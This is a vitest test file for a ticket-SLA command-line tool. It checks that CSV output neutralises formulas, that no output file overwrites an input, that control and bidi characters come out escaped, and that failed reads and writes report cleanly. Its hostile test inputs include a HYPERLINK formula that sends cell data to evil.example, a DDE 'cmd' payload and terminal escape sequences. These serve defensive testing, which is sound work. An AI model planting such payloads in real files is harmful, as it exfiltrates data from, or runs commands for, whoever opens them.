// What the command writes when its input is hostile or the machine fails (issue 17, items 5–8):
// no spreadsheet formula in a CSV it writes, no output written over an input, no terminal escape
// or bidi override let through, and one line with a documented exit code when a read or a
// write fails.
import { spawnSync } from 'node:child_process';
import { closeSync, linkSync, mkdirSync, openSync, readFileSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvField, csvLine } from '../../src/cli/output/csv-field';
import { CLI, ROOT, runCli, scratchDir, writeInput } from '../support/cli';

const NOW = '2026-06-30T14:00:00-04:00';
const REPORT = ['report', 'examples/tickets.jsonl', '--plan', 'standard', '--now', NOW];
/** What must never reach a terminal raw: C0 but LF, DEL, C1, bidi controls, LS and PS. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point.
const UNSAFE = /[\0-\t\v-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]/u;
const FULL = 'no space left on device (ENOSPC)';

/** Runs `sla-clock …args` with stdin and stdout opened on the given files. */
function runWith(args: readonly string[], files: { stdin?: string; stdout?: string }) {
  const stdin = files.stdin === undefined ? 'ignore' : openSync(files.stdin, 'r');
  const stdout = files.stdout === undefined ? 'pipe' : openSync(files.stdout, 'w');
  try {
    const result = spawnSync(process.execPath, [CLI, ...args], {
      stdio: [stdin, stdout, 'pipe'],
      encoding: 'utf8',
      cwd: ROOT,
    });
    return { status: result.status, stdout: result.stdout ?? '', stderr: result.stderr };
  } finally {
    for (const fd of [stdin, stdout]) if (typeof fd === 'number') closeSync(fd);
  }
}

const jsonl = (tickets: readonly object[]) =>
  tickets.map((ticket) => JSON.stringify(ticket)).join('\n');
const ticket = (id: string, priority = 'high') => ({
  id,
  openedAt: '2026-06-30T08:00:00-04:00',
  priority,
});

describe('5. no spreadsheet formula in a CSV the command writes', () => {
  it('--tickets out.csv: ids starting with = + - @ TAB or CR get a leading quote', () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1,2)',
      '\t=1+1',
      '\r=1+1',
    ];
    const plain = ['A-1', 'x=1', "'quoted", '42'];
    const out = join(scratchDir(), 'out.csv');
    const result = runCli(
      [...REPORT.slice(0, 1), '-', ...REPORT.slice(2), '--tickets', out],
      jsonl([...hostile, ...plain].map((id) => ticket(id))),
    );
    expect(result.status).toBe(0);
    const parsed = Papa.parse<Record<string, string>>(readFileSync(out, 'utf8').trim(), {
      header: true,
    });
    expect(parsed.errors).toEqual([]);
    expect(parsed.data.map((row) => row.id)).toEqual([...hostile.map((id) => `'${id}`), ...plain]);
    for (const row of parsed.data) expect(row.gti_target_ms).toMatch(/^\d+$/);
  });

  it('neutralises text, never numbers: a negative number stays a number', () => {
    expect(csvField(-3_600_000)).toBe('-3600000');
    expect(csvField('-3600000')).toBe("'-3600000");
    expect(csvField('=1,2')).toBe(`"'=1,2"`);
    expect(csvField('\r1')).toBe(`"'\r1"`);
    expect(csvLine(['@x', 7, null, 'plain'])).toBe("'@x,7,,plain\n");
  });

  it('quotes a cell holding ; or TAB, which a spreadsheet set for French splits on', () => {
    expect(csvField('x;=1+1')).toBe('"x;=1+1"');
    expect(csvField('x\t=1+1')).toBe('"x\t=1+1"');
  });
});

describe('6. an output that is an input is refused before anything is written', () => {
  const setUp = () => {
    const dir = scratchDir();
    const input = writeInput(
      dir,
      't.csv',
      readFileSync(join(ROOT, 'examples/tickets.csv'), 'utf8'),
    );
    return { dir, input, before: readFileSync(input, 'utf8') };
  };
  const base = (input: string) => ['report', input, '--plan', 'standard', '--now', NOW];

  it.each([
    ['the same path', (_dir: string, input: string) => input],
    ['another path to it', (dir: string) => join(dir, 'sub', '..', 't.csv')],
    [
      'a symbolic link to it',
      (dir: string, input: string) => {
        symlinkSync(input, join(dir, 'link.csv'));
        return join(dir, 'link.csv');
      },
    ],
    [
      'a hard link to it',
      (dir: string, input: string) => {
        linkSync(input, join(dir, 'hard.csv'));
        return join(dir, 'hard.csv');
      },
    ],
  ])('--tickets on the input through %s: usage error, exit 2, the input intact', (_how, pathOf) => {
    const { dir, input, before } = setUp();
    mkdirSync(join(dir, 'sub'));
    const out = pathOf(dir, input);
    const result = runCli([...base(input), '--tickets', out]);
    expect(result.status).toBe(2);
    expect(result.stderr).toContain(`--tickets ${out}`);
    expect(result.stderr).toContain(`the input ${input}`);
    expect(result.stdout).toBe('');
    expect(readFileSync(input, 'utf8')).toBe(before);
  });

  it('--html on the plan file is refused', () => {
    const { dir, input } = setUp();
    const plan = writeInput(
      dir,
      'plan.json',
      JSON.stringify({
        id: 'flat',
        schedule: '24/7',
        targets: Object.fromEntries(
          ['normal', 'medium', 'high', 'critical'].map((p) => [p, { gti: 'PT1H', gtr: 'PT8H' }]),
        ),
      }),
    );
    const before = readFileSync(plan, 'utf8');
    const result = runCli(['report', input, '--plan', plan, '--now', NOW, '--html', plan]);
    expect(result.status).toBe(2);
    expect(result.stderr).toContain(`--html ${plan}`);
    expect(result.stderr).toContain(`--plan ${plan}`);
    expect(readFileSync(plan, 'utf8')).toBe(before);
  });

  it.each([
    ['--tickets', (_dir: string, input: string) => input],
    ['--html', () => '/proc/self/fd/0'],
  ])('%s on the file stdin is redirected from (report -) is refused', (option, pathOf) => {
    const { dir, input, before } = setUp();
    const result = runWith([...base('-'), option, pathOf(dir, input)], { stdin: input });
    expect(result.status).toBe(2);
    expect(result.stderr).toContain(`${option} ${pathOf(dir, input)}`);
    expect(result.stderr).toContain('stdin');
    expect(readFileSync(input, 'utf8')).toBe(before);
  });

  it('two outputs that are the same file are refused; two others are written', () => {
    const { dir, input } = setUp();
    const out = join(dir, 'out.csv');
    const refused = runCli([...base(input), '--tickets', out, '--html', join(dir, '.', 'out.csv')]);
    expect(refused.status).toBe(2);
    expect(refused.stderr).toContain('--html');
    expect(refused.stderr).toContain('--tickets');
    const html = join(dir, 'out.html');
    const written = runCli([...base(input), '--tickets', out, '--html', html]);
    expect(written.status).toBe(0);
    expect(readFileSync(html, 'utf8')).toMatch(/^<!doctype html>/);
  });
});

describe('7. control characters and bidi overrides are shown escaped', () => {
  const TITLE = 'X\x1b]0;pwned\x07\x1b[2J';

  it('report: a rejected ticket is one stderr line with its id and value escaped', () => {
    const ids = [TITLE, 'two\nlines\ttab', 'rtl\u202eevil', 'c1\x9b2J\x7f\u2028'];
    const input = jsonl([...ids.map((id) => ticket(id, 'urgent')), ticket('V', 'hi\u202egh')]);
    const result = runCli(['report', '-', ...REPORT.slice(2)], input);
    expect(result.status).toBe(1);
    const lines = result.stderr.split('\n');
    expect(lines.pop()).toBe('');
    expect(lines.filter((line) => UNSAFE.test(line))).toEqual([]);
    expect(lines.map((line) => line.slice(0, line.indexOf(': priority')))).toEqual([
      'line 1: ticket X\\x1b]0;pwned\\x07\\x1b[2J',
      'line 2: ticket two\\nlines\\ttab',
      'line 3: ticket rtl\\u202eevil',
      'line 4: ticket c1\\x9b2J\\x7f\\u2028',
      'line 5: ticket V',
    ]);
    expect(lines[4]).toContain('(got "hi\\u202egh")');
  });

  it('report --json: escaped in the JSON text, the same values once parsed', () => {
    const input = jsonl([ticket('V', 'hi\u202egh\x85')]);
    const result = runCli(['report', '-', ...REPORT.slice(2), '--json'], input);
    expect(result.status).toBe(1);
    expect(UNSAFE.test(result.stdout.replaceAll('\n', ''))).toBe(false);
    expect(JSON.parse(result.stdout).rejected.samples[0].message).toContain('hi\u202egh\x85');
  });

  it('explain: the id in the text output, the plan id of a plan file', () => {
    const result = runCli(
      ['explain', '--plan', 'standard', '--ticket', '-', '--now', NOW],
      JSON.stringify(ticket(`${TITLE}\u202e`)),
    );
    expect(result.status).toBe(0);
    expect(UNSAFE.test(result.stdout.replaceAll('\n', ''))).toBe(false);
    expect(result.stdout.split('\n')[0]).toBe(
      'X\\x1b]0;pwned\\x07\\x1b[2J\\u202e · high · plan standard · America/Martinique',
    );
  });

  it('deadlines: the plan id it echoes; usage errors quoting an argument', () => {
    const dir = scratchDir();
    const plan = writeInput(
      dir,
      'plan.json',
      JSON.stringify({
        id: `P${TITLE}`,
        schedule: '24/7',
        targets: Object.fromEntries(
          ['normal', 'medium', 'high', 'critical'].map((p) => [p, { gti: 'PT1H', gtr: 'PT8H' }]),
        ),
      }),
    );
    const echo = runCli(['deadlines', '--plan', plan, '--priority', 'high', '--opened', NOW]);
    expect(echo.status).toBe(0);
    expect(echo.stdout).toMatch(/^plan PX\\x1b\]0;pwned\\x07\\x1b\[2J · high · opened/);
    for (const args of [
      ['deadlines', '--plan', 'standard', '--priority', 'hi\u202egh', '--opened', NOW],
      [...REPORT, '--format', `csv${TITLE}`],
      [`rep\u202eort`],
    ]) {
      const refused = runCli(args);
      expect(refused.status).toBe(2);
      expect(UNSAFE.test(refused.stderr.replaceAll('\n', ''))).toBe(false);
      expect(refused.stderr).toMatch(/\\(x1b|u202e)/);
    }
  });

  it('the HTML page isolates every id: no bidi control outside a <bdi>', () => {
    const dir = scratchDir();
    const html = join(dir, 'page.html');
    const late = (id: string) => ({ ...ticket(id, 'critical'), openedAt: '2026-06-01T08:00:00Z' });
    const result = runCli(
      ['report', '-', ...REPORT.slice(2), '--html', html],
      jsonl([late('A\u202eB'), late('C\u2067D')]),
    );
    expect(result.status).toBe(0);
    const page = readFileSync(html, 'utf8');
    expect(page).toContain('<bdi>A\u202eB</bdi>');
    // Browsers isolate a <bdi> with FSI…PDI: an isolate control of the id's own would pair with them.
    expect(page).toContain('<bdi>C\\u2067D</bdi>');
    const outside = page.replace(/<bdi>[^<\u2066-\u2069]*<\/bdi>/g, '');
    expect(outside).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]/);
  });
});

describe('8. a read or a write that fails: one line, exit 4', () => {
  const line = (text: string) => `sla-clock: ${text}\n`;

  it.each([
    ['report', REPORT],
    ['report --json', [...REPORT, '--json']],
    ['deadlines', ['deadlines', '--plan', 'standard', '--priority', 'high', '--opened', NOW]],
    ['--help', ['--help']],
  ])('%s > /dev/full', (_name, args) => {
    const result = runWith(args, { stdout: '/dev/full' });
    expect(result.stderr).toBe(line(`cannot write to stdout: ${FULL}`));
    expect(result.status).toBe(4);
  });

  it('explain > /dev/full', () => {
    const file = writeInput(scratchDir(), 't.json', JSON.stringify(ticket('T-1')));
    const result = runWith(['explain', '--plan', 'standard', '--ticket', file, '--now', NOW], {
      stdout: '/dev/full',
    });
    expect(result.stderr).toBe(line(`cannot write to stdout: ${FULL}`));
    expect(result.status).toBe(4);
  });

  it.each(['--tickets', '--html'])('%s on a full disk', (option) => {
    const out = join(scratchDir(), option === '--html' ? 'full.html' : 'full.csv');
    symlinkSync('/dev/full', out);
    const result = runCli([...REPORT, option, out]);
    expect(result.stderr).toBe(line(`cannot write to ${out} (${option}): ${FULL}`));
    expect(result.status).toBe(4);
    expect(result.stdout).toBe('');
  });

  it('--tickets on a full disk while the output waits to drain (more than one buffer of rows)', () => {
    const dir = scratchDir();
    const out = join(dir, 'full-large.csv');
    symlinkSync('/dev/full', out);
    const ticket = (index: number) =>
      JSON.stringify({ id: `T-${index}`, openedAt: '2026-06-30T08:00:00-04:00', priority: 'high' });
    const input = writeInput(
      dir,
      'many.jsonl',
      `${Array.from({ length: 3000 }, (_, index) => ticket(index)).join('\n')}\n`,
    );
    const result = runCli([
      'report',
      input,
      '--plan',
      'standard',
      '--now',
      '2026-06-30T14:00:00-04:00',
      '--tickets',
      out,
    ]);
    expect(result.stderr).toBe(line(`cannot write to ${out} (--tickets): ${FULL}`));
    expect(result.status).toBe(4);
  });

  it.each([
    ['report', [...REPORT.slice(0, 1), '/proc/self/mem', ...REPORT.slice(2), '--format', 'csv']],
    ['explain', ['explain', '--plan', 'standard', '--ticket', '/proc/self/mem']],
  ])('%s reading /proc/self/mem (a read error): one line naming it, no stack', (_name, args) => {
    const result = runCli(args);
    expect(result.stderr).toMatch(/^sla-clock: [^\n]*\/proc\/self\/mem[^\n]*\(EIO\)\n$/);
    expect(result.status).toBe(4);
  });

  it('a reader that closes stdout early (| true) is not an error: exit 0, nothing said', () => {
    const result = spawnSync(
      'bash',
      ['-c', `"${process.execPath}" "${CLI}" --help | true; echo "$\{PIPESTATUS[0]}"`],
      { encoding: 'utf8', cwd: ROOT },
    );
    expect(result.stdout.trim()).toBe('0');
    expect(result.stderr).toBe('');
  });
});
